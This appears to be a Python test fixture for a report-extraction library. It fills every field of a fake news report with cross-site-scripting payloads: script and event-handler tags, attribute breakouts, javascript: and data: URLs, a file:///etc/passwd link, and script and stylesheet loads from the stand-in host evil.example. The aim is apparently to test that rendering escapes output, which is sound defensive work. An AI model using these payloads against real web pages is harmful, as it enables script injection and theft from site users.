"""Texts that try to run as script, in every place where a report's words are shown."""

from __future__ import annotations

from datetime import date

from dragoman.schema import (
    Actor,
    Attribution,
    Block,
    BlockKind,
    Document,
    Event,
    EventType,
    Mention,
    Place,
    PlacePrecision,
    Precision,
    Reading,
    Reason,
    Relation,
    Report,
    Span,
    Statement,
    Status,
    TimeInterval,
)

_CALL = "top.xss=1"
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>{}",
    "<<script>{}//<</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src=x:x onerror\n={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributename=x>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    '<a href="jav&#x09;ascript:{}">x</a>',
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="http://evil.example/">',
    '<form action="javascript:{}"><button>x</button></form>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>",
    "<isindex type=image src=1 onerror={}>",
    "<xss id=x tabindex=1 onfocus={}></xss>",
    "<dialog open onclose={}>x</dialog>",
    "<plaintext>{}",
    "<!--><img src=x onerror={}>-->",
)
_BREAKOUTS = (
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus tabindex=1 x='",
    '" autofocus onfocus={} x=',
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "{{{{ 7*7 }}}}{{% raw %}}{}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "\x02<b>\x03{}",
    "‮<script>{}</script>",
)
PAYLOADS = tuple(text.format(_CALL) for text in (*_TAGS, *_BREAKOUTS))
#: Addresses that are no links to a page.
URLS = (
    "javascript:top.xss=1",
    "JaVaScRiPt:top.xss=1",
    "java\tscript:top.xss=1",
    " javascript:top.xss=1",
    "data:text/html,<script>top.xss=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    'https://evil.example/" onclick="top.xss=1',
    "file:///etc/passwd",
    "https:javascript:top.xss=1",
)


def hostile_report(number: int, count: int = 1) -> Report:
    """Return a report in which everything that is shown tries to run as script.

    It has ``count`` events, each with the payload at its place from ``number`` on.
    """
    payloads = [PAYLOADS[(number + n) % len(PAYLOADS)] for n in range(count)]
    every = " ".join(payloads)
    lines = [f"Iran {p} met Azerbaijan {p} in Ganja {p}.\n" for p in payloads]
    text = "".join(lines)
    document = Document(
        id=f"d{number:016x}",
        text=text,
        source=every,
        title=every,
        url=URLS[number % len(URLS)],
        publisher=every,
    )
    reading = Reading(
        document=document,
        blocks=(Block(BlockKind.BODY, Span(0, len(text))),),
        published=date(2024, 5, 4),
        published_from="metadata",
        publisher=every,
        publisher_from="metadata",
        language="en",
    )
    events, statements, relations, sentences = [], [], [], []
    start = 0
    for place, (payload, line) in enumerate(zip(payloads, lines, strict=True)):
        words = Span(start, start + len(line) - 1)
        name = Span(start, start + 4)
        predicate = Span(start + 5, start + 5 + len(payload))
        mention = Mention(place, predicate, words)
        actor = Actor(
            name=payload, span=name, country="IRN", sector="GOV", role=payload, person=payload
        )
        other = Actor(name=payload, span=name, country="AZE", sector="MIL")
        events.append(
            Event(
                id=f"e{number + place:016x}",
                type=EventType.CONSULT,
                cameo=payload,
                quad=1,
                score=1.0,
                status=(Status.ACTUAL, Status.PLANNED, Status.ALLEGED)[place % 3],
                mode=payload,
                contexts=(payload,),
                actors=(actor,),
                recipients=(other,),
                symmetric=True,
                attribution=Attribution("said", (actor,), payload, name, payload),
                when=TimeInterval(date(2024, 5, 3), date(2024, 5, 3), Precision.DAY, payload, name),
                where=Place(
                    payload, name, PlacePrecision.CITY, "AZE", payload, 40.7, 46.4, "1", payload
                ),
                mentions=(mention,),
                confidence=0.5,
                reasons=(Reason("type", payload, predicate), Reason("actors", payload, name)),
            )
        )
        key = f"{number}-{place}"
        statements.append(
            Statement(f"s{key}", payload, (actor,), (other,), mention, topic=predicate)
        )
        relations.append(Relation(f"r{key}", payload, mention, (actor, other), sector=payload))
        sentences.append(words)
        start += len(line)
    return Report(
        document,
        reading,
        tuple(sentences),
        tuple(events),
        tuple(statements),
        tuple(relations),
        "test",
    )
